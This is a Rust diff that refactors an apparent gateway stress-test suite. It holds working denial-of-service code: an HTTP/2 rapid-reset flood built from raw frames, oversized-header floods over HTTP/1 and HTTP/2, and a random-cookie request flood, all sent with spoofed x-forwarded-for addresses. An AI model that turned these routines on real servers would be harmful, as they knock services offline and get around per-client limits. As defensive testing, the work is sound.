@@ -24,23 +24,10 @@ const PAUSE: Duration = Duration::from_millis(100);
 /// Requests with the maximum number of headers, and with more.
 pub async fn headers(stage: &mut Stage) -> Result<CaseResult> {
     let connections = stage.or_short(CONNECTIONS, 4);
-    attack::run(stage, move |target| async move {
-        let mut tasks = JoinSet::new();
-        for number in 0..connections {
-            let own = target.clone();
-            tasks.spawn(async move { http1_headers(&own, number).await });
-            let own = target.clone();
-            tasks.spawn(async move {
-                while !own.is_over() {
-                    if http2_headers(&own, number).await.is_err() {
-                        own.observed("HTTP/2 connection closed");
-                        sleep(PAUSE).await;
-                    }
-                }
-                Ok(())
-            });
-        }
-        tasks.join_all().await.into_iter().collect()
+    attack::run(stage, async move |target: Target| {
+        let by_http1 = attack::repeat(&target, connections, PAUSE, http1_headers);
+        let by_http2 = attack::repeat(&target, connections, PAUSE, http2_headers);
+        tokio::join!(by_http1, by_http2);
     })
     .await
 }
@@ -55,7 +42,7 @@ fn kilobytes(count: usize) -> HeaderMap {
     headers.collect()
 }
 
-async fn http1_headers(target: &Target, number: usize) -> Result<()> {
+async fn http1_headers(target: Target, number: usize) -> Result<()> {
     let client = Client::builder().no_proxy().build()?;
     let url = format!("{}/api/plans", target.origin(number));
     for kilobyte in [15, 30, 60].into_iter().cycle() {
@@ -63,11 +50,8 @@ async fn http1_headers(target: &Target, number: usize) -> Result<()> {
             break;
         }
         let call = client.get(&url).headers(kilobytes(kilobyte));
-        match call
-            .header("x-forwarded-for", attacker_address(number))
-            .send()
-            .await
-        {
+        let call = call.header("x-forwarded-for", attacker_address(number));
+        match call.send().await {
             Ok(answer) => target.observed(format!("{} for {kilobyte} kB", answer.status())),
             Err(_) => target.observed(format!("connection closed for {kilobyte} kB")),
         }
@@ -75,8 +59,8 @@ async fn http1_headers(target: &Target, number: usize) -> Result<()> {
     Ok(())
 }
 
-async fn http2_headers(target: &Target, number: usize) -> Result<()> {
-    let client = connect(target, number, 65_535).await?;
+async fn http2_headers(target: Target, number: usize) -> Result<()> {
+    let client = connect(&target, number, 65_535).await?;
     while !target.is_over() {
         let mut client = client.clone().ready().await?;
         let mut request = http::Request::get(format!("{}/api/plans", target.origin(number)));
@@ -92,36 +76,21 @@ async fn http2_headers(target: &Target, number: usize) -> Result<()> {
 /// HTTP/2 streams that are reset as soon as they are opened.
 pub async fn resets(stage: &mut Stage) -> Result<CaseResult> {
     let connections = stage.or_short(CONNECTIONS, 2);
-    attack::run(stage, move |target| async move {
-        let mut tasks = JoinSet::new();
-        for number in 0..connections {
-            let own = target.clone();
-            tasks.spawn(async move {
-                while !own.is_over() {
-                    let batches = rapid_resets(&own, number).await;
-                    let most = batches.unwrap_or_default().next_power_of_two();
-                    own.observed(format!("connection closed after {most} batches at most"));
-                    sleep(PAUSE).await;
-                }
-            });
-        }
-        tasks.join_all().await;
-        Ok(())
+    attack::run(stage, async move |target: Target| {
+        attack::repeat(&target, connections, PAUSE, rapid_resets).await;
     })
     .await
 }
 
 /// An HTTP/2 frame.
 fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
-    let [_, length @ ..] = u32::try_from(payload.len())
-        .unwrap_or_default()
-        .to_be_bytes();
-    let stream = stream.to_be_bytes();
+    let length = u32::try_from(payload.len()).unwrap_or_default();
+    let ([_, length @ ..], stream) = (length.to_be_bytes(), stream.to_be_bytes());
     [&length[..], &[kind, flags], &stream, payload].concat()
 }
 
-/// Opens and resets streams until the gateway closes. Returns the number of batches.
-async fn rapid_resets(target: &Target, number: usize) -> Result<u32> {
+/// Opens and resets streams until the gateway closes.
+async fn rapid_resets(target: Target, number: usize) -> Result<()> {
     const SETTINGS: u8 = 4;
     const HEADERS: u8 = 1;
     const RESET: u8 = 3;
@@ -135,17 +104,15 @@ async fn rapid_resets(target: &Target, number: usize) -> Result<u32> {
     request.extend_from_slice(&[0x01, 9]);
     request.extend_from_slice(b"localhost");
     let mut socket = target.connect(number).await?;
-    socket
-        .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
-        .await?;
-    socket.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
-    socket.write_all(&frame(SETTINGS, 1, 0, &[])).await?;
+    let begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+    let settings = [frame(SETTINGS, 0, 0, &[]), frame(SETTINGS, 1, 0, &[])].concat();
+    socket.write_all(&[begin, &settings[..]].concat()).await?;
     let (mut read, mut write) = socket.into_split();
     let reading = tokio::spawn(async move {
         let mut answer = vec![0; 1 << 16];
         while matches!(read.read(&mut answer).await, Ok(1..)) {}
     });
-    let mut batches = 0;
+    let mut batches: u32 = 0;
     while !target.is_over() && !reading.is_finished() {
         let mut bytes = Vec::new();
         for place in 0..BATCH {
@@ -159,20 +126,21 @@ async fn rapid_resets(target: &Target, number: usize) -> Result<u32> {
         batches += 1;
     }
     reading.abort();
-    Ok(batches)
+    let most = batches.next_power_of_two();
+    target.observed(format!("connection closed after {most} batches at most"));
+    sleep(PAUSE).await;
+    Ok(())
 }
 
 /// Requests with unknown session cookies.
 pub async fn cookies(stage: &mut Stage) -> Result<CaseResult> {
     let per_second = stage.or_short(COOKIES, 50);
     let mut rng = stage.rng.fork();
-    attack::run(stage, move |target| async move {
-        let client = Client::builder()
-            .no_proxy()
-            .timeout(Duration::from_secs(10))
-            .build()?;
+    let client = Client::builder().no_proxy();
+    let client = client.timeout(Duration::from_secs(10)).build()?;
+    attack::run(stage, async move |target: Target| {
         let (begun, mut tasks) = (Instant::now(), JoinSet::new());
-        for number in 0_u32.. {
+        for (number, place) in (0_u32..).zip(0..) {
             let due = begun + Duration::from_secs(1) / per_second * number;
             if due >= target.end {
                 break;
@@ -180,7 +148,6 @@ pub async fn cookies(stage: &mut Stage) -> Result<CaseResult> {
             sleep_until(due).await;
             while tasks.try_join_next().is_some() {}
             let token: String = (0..43).map(|_| rng.alphanumeric()).collect();
-            let place = usize::try_from(number)?;
             let call = client
                 .get(format!("{}/api/auth/user", target.origin(place)))
                 .header("x-forwarded-for", attacker_address(place % ADDRESSES))
@@ -194,7 +161,6 @@ pub async fn cookies(stage: &mut Stage) -> Result<CaseResult> {
             });
         }
         tasks.join_all().await;
-        Ok(())
     })
     .await
 }
